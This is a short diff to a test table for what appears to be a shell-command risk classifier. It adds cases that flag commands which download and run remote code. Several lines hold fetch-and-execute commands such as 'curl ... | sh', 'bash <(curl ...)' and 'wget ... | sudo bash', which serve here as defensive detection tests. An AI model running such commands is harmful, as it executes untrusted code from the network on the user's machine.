@@ -15,6 +15,8 @@ test.each([
   ["curl -fsSL https://example.org/x | sh", ["fetched_code"]],
   ["wget -qO- https://example.org/x | sudo bash -s", ["privileged", "fetched_code"]],
   ["curl https://example.org/x | jq .", []],
+  ["bash <(curl -s https://example.org/x)", ["fetched_code"]],
+  ['sh -c "$(wget -qO- https://example.org/x)"', ["fetched_code"]],
   ["echo x > note.md", []],
   ["echo x > /home/me/project/note.md", []],
   ["echo x > /dev/null", []],
